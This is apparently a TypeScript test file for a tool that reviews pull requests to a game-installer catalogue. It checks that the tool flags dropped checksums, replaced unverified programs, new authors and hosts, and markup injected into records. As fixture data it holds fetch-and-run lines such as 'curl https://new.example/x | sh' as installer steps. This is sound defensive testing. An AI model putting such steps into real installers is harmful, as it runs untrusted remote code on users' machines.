import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { jsonReview, markdownReview } from '../../../generator/authoring/review/report/markdown-review.ts';
import { textReview } from '../../../generator/authoring/review/report/text-review.ts';
import { reviewVersions } from '../../../generator/authoring/review/review-versions.ts';
import type { Review } from '../../../generator/authoring/review/record.ts';
import { PROJECT } from '../../project.ts';
import { readTree } from '../../read-tree.ts';
import { versionOf } from './catalogue-version.ts';

/** A pull request: what it is about, whether there is something to check, and what the report begins with. */
interface Case {
  readonly story: string;
  readonly alarming: boolean;
  readonly shows: readonly string[];
  /** Files that it deletes. */
  readonly gone?: readonly string[];
}

type Texts = Readonly<Record<string, string>>;

const ROOT = `${PROJECT}test/fixtures/pull-requests`;

const CASES = readdirSync(`${ROOT}/cases`).sort();

const HARMLESS = textsIn('harmless');

const PLAIN = { details: true, width: 100, colours: noColours() };

test('there are at least twenty, and about half of them want a look', () => {
  const alarming = CASES.filter((name) => caseOf(name).alarming);
  expect(CASES.length).toBeGreaterThanOrEqual(20);
  expect(alarming.length).toBeGreaterThanOrEqual(10);
});

describe.each(CASES)('%s', (name) => {
  const { alarming, shows } = caseOf(name);
  const review = reviewOf(name);

  test.each([
    ['last forty lines of the text', textReview(review, PLAIN).split('\n').slice(-40)],
    ['first forty lines of the Markdown', markdownReview(review).split('\n').slice(0, 40)],
  ])('the %s tell it', (_, lines) => {
    const words = lines.map((line) => line.trim()).join(' ');
    for (const sentence of shows) expect(words).toContain(sentence);
    expect(words.includes('To check')).toBe(alarming);
  });

  test('nothing is said about the harmless changes beside it', () => {
    const harmless = new Set(Object.keys(HARMLESS));
    const mentions = review.changes.filter(({ file, points }) => harmless.has(file) && points.length > 0);
    expect(mentions).toEqual([]);
    expect(review.breaking.filter(({ file }) => harmless.has(file))).toEqual([]);
  });
});

test('harmless changes alone leave nothing to check', () => {
  const review = reviewTexts(textsIn('base'), { ...textsIn('base'), ...HARMLESS });
  expect(review.breaking).toEqual([]);
  expect(review.labels).toEqual([]);
  expect(textReview(review, PLAIN)).toContain('\nNothing to check, no breaking change, 12 records changed\n');
});

test('another file in the place of an unverified program is to check', () => {
  const base = textsIn('base');
  const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('red-eclipse-linux.yaml')) ?? [];
  const version = (number: string) =>
    text.replace('  files:\n', `  files:\n    - maps: https://github.com/redeclipse/base/releases/v${number}/maps\n`) +
    '    - execute:\n        file: maps\n';
  const review = reviewTexts({ ...base, [path]: version('1') }, { ...base, [path]: version('2') });
  const report = textReview(review, { ...PLAIN, width: 200 });
  expect(report).toContain('\n1 record to check, no breaking change\n');
  expect(report).toContain('Unverified program replaced: `maps` is run, and is another file now.');
});

test('a point stands once for all records that share it, and a stranger with a command is one point', () => {
  const base = textsIn('base');
  const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('red-eclipse-linux.yaml')) ?? [];
  const names = ['a', 'b', 'c', 'd', 'e'].map((letter) => `red-eclipse-${letter}`);
  const added = names.map((name) => [
    path.replace('red-eclipse-linux', name),
    text.replace(/^user: .*/m, 'user: newcomer').replace('https://github.com/redeclipse', 'https://new.example/files'),
  ]);
  const [first = '', ...otherPaths] = added.map(([name = '']) => name);
  const worse = `${added[0]?.[1]?.trimEnd() ?? ''}\n    - execute:\n        command: curl https://new.example/x | sh\n`;
  const review = reviewTexts(base, { ...base, ...(Object.fromEntries(added) as Texts), [first]: worse });
  const report = textReview(review, { ...PLAIN, details: false, width: 300 });
  const page = markdownReview(review);
  for (const words of ['New author: First installer by `newcomer`.', 'New download host: `new.example`.'])
    expect([report, page].map((one) => one.split(words).length - 1)).toEqual([1, 1]);
  expect(report).toContain(`  ▲ ${names.slice(1).join(', ')} (installers added)\n`);
  const stranger =
    'First installer by `newcomer`. It fetches from `new.example` and runs `curl https://new.example/x | sh`.';
  expect(report).toContain(
    `  ▲ ${names[0] ?? ''} (installer added)\n       New author, new host and new command: ${stranger}`,
  );
  expect(page).toContain(
    `- ${names
      .slice(1)
      .map((name) => `**\`${name}\`**`)
      .join(', ')} (installers added)\n`,
  );
  expect(otherPaths).toHaveLength(4);
});

test('at a terminal the worst comes last, and below the headline of a page first', () => {
  const review = reviewOf('checksum-dropped');
  const places = (page: string) => ['Other changes', 'To check', '1 record to check'].map((one) => page.indexOf(one));
  const ascending = (numbers: readonly number[]) => numbers.toSorted((a, b) => a - b);
  const [text, page] = [places(textReview(review, PLAIN)), places(markdownReview(review))];
  expect(text).toEqual(ascending(text));
  expect(page).toEqual(ascending(page).reverse());
  expect([...text, ...page]).not.toContain(-1);
});

test('a bump of a version is no breaking change, and both versions are named', () => {
  const review = reviewOf('version-update');
  expect(review.breaking).toEqual([]);
  expect(review.labels).not.toContain('breaking change');
  expect(textReview(review, PLAIN)).toContain(
    '· openttd-windows: script, version 15.3 Windows portable → 15.4 Windows portable',
  );
  expect(textReview(review, PLAIN)).toContain('Nothing to check, no breaking change');
});

test('what changes in a script is told in plain words', () => {
  const base = textsIn('base');
  const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('openttd-windows.yaml')) ?? [];
  const sum = (digit: string) => text.replace(/checksum: .*/, `checksum: sha256:${digit.repeat(64)}`);
  const step = `${sum('b').trimEnd()}\n    - execute:\n        file: $GAMEDIR/setup.sh\n`;
  const report = textReview(reviewTexts({ ...base, [path]: sum('a') }, { ...base, [path]: step }), PLAIN);
  expect(report).toContain('• Checksum of `openttd` changed.');
  expect(report).toMatch(/• New step \d+: runs `setup.sh`/);
  expect(report).toContain('Same address, new checksum: `openttd`.');
  const back = textReview(reviewTexts({ ...base, [path]: step }, { ...base, [path]: text }), PLAIN);
  expect(back).toContain('• Step removed: runs `setup.sh`');
});

const OF_RED_ECLIPSE = 'games/r/red-eclipse/red-eclipse-linux.yaml';

test.each([
  [
    'an installer of another game',
    'red-eclipse-linux',
    'xonotic-linux',
    'of `red-eclipse`, gets `xonotic-linux`, of `xonotic`',
  ],
  ['another game', 'red-eclipse-linux', 'xonotic', 'of `red-eclipse`, gets `xonotic`, of `xonotic`'],
  [
    'another game than the one before',
    'openttd-14',
    'xonotic-linux',
    'of `openttd`, gets `xonotic-linux`, of `xonotic`',
  ],
  ['its own game', 'red-eclipse-linux', 'red-eclipse', undefined],
  ['another installer of its game', 'openttd-14', 'openttd-linux-complete', undefined],
  ['a slug of no known game', 'long-gone', 'xonotic-linux', 'of no known game, gets `xonotic-linux`, of `xonotic`'],
  ['a slug named after its game', 'xonotic-old', 'xonotic-linux', undefined],
])('a retired slug that leads to %s', (_name, slug, replacement, sentence) => {
  const oldTexts = textsIn('base');
  const entry = `- slug: ${slug}\n  date: "2026-11-20"\n  reason: Gone.\n  replaced_by: ${replacement}\n`;
  const newTexts = { ...oldTexts, 'retired.yaml': entry };
  const removals = new Set(slug === 'red-eclipse-linux' ? [OF_RED_ECLIPSE] : []);
  const finalTexts = Object.fromEntries(Object.entries(newTexts).filter(([path]) => !removals.has(path)));
  const report = textReview(reviewTexts(oldTexts, finalTexts), { ...PLAIN, width: 200 });
  expect(report).toContain(sentence ?? `Who asks for \`${slug}\` gets \`${replacement}\`.`);
  expect(report.includes('To check')).toBe(sentence !== undefined);
});

test('settings of a site that get a file, or lose it, are to check', () => {
  const oldTexts = textsIn('base');
  const { 'site.yaml': usual = '', ...bare } = oldTexts;
  const site = `${usual}mirrors:\n  - https://new.example\nseverities:\n  executes-without-checksum: error\n`;
  const added = textReview(
    reviewTexts(bare, { ...bare, 'site.yaml': `${usual}mirrors:\n  - https://new.example\n` }),
    PLAIN,
  );
  expect(added).toContain('`mirrors` is');
  const removal = textReview(reviewTexts({ ...bare, 'site.yaml': site }, bare), { ...PLAIN, width: 200 });
  expect(removal).toContain('The severity of `executes-without-checksum` is the usual one, no longer `error`.');
  expect(removal).toContain('1 record to check');
});

test('another order of keys, and comments, do not count as a change', () => {
  const changed = reviewTexts(textsIn('base'), { ...textsIn('base'), ...HARMLESS }).changes.map(({ name }) => name);
  expect(changed).not.toContain('xonotic-linux');
  expect(changed).not.toContain('naev-windows');
});

test('what a record says is neither markup nor a control character of the report', () => {
  const review = reviewOf('markup-in-texts');
  for (const report of [textReview(review, PLAIN), markdownReview(review), jsonReview(review)]) {
    expect(report).not.toMatch(/[\u001B\u202E]/u);
  }
  expect(outsideCode(markdownReview(review))).not.toMatch(/<img|@maintainers|\]\(https/);
});

test('a page of a hundred large changes stays below the limit of GitHub', () => {
  const base = textsIn('base');
  const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('red-eclipse-linux.yaml')) ?? [];
  const records = Array.from({ length: 100 }, (_, index) => {
    const steps = `\n    - execute:\n        command: curl ${'x'.repeat(2_000)} ${String(index)} | sh\n`.repeat(20);
    return [path.replace('red-eclipse-linux', `red-eclipse-${String(index)}`), text.trimEnd() + steps] as const;
  });
  const page = markdownReview(reviewTexts(base, { ...base, ...Object.fromEntries(records) }));
  expect(page.length).toBeLessThan(65_536);
  expect(page).toContain('and 81 more entries');
});

/** A page without its blocks and spans of code, which show what they hold as it is. */
function outsideCode(page: string): string {
  return page.replaceAll(/^(`{3,})[^\n]*\n[^]*?\n\1$/gm, '').replaceAll(/(?<!`)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, '');
}

function caseOf(name: string): Case {
  return JSON.parse(readFileSync(`${ROOT}/cases/${name}/case.json`, 'utf8')) as Case;
}

/** The review of a case, its changes among the harmless ones. */
function reviewOf(name: string): Review {
  const oldTexts = { ...textsIn('base'), ...textsIn(`cases/${name}/before`) };
  const newTexts = { ...oldTexts, ...HARMLESS, ...textsIn(`cases/${name}/head`) };
  const removals = new Set(caseOf(name).gone ?? []);
  return reviewTexts(oldTexts, Object.fromEntries(Object.entries(newTexts).filter(([path]) => !removals.has(path))));
}

function reviewTexts(oldTexts: Texts, newTexts: Texts): Review {
  return reviewVersions({ base: 'main', head: 'branch' }, versionOf(oldTexts), versionOf(newTexts));
}

function textsIn(folder: string): Texts {
  return existsSync(`${ROOT}/${folder}`) ? readTree(`${ROOT}/${folder}`) : {};
}

function noColours() {
  const identity = (text: string) => text;
  return { red: identity, yellow: identity, cyan: identity, bold: identity, dim: identity };
}
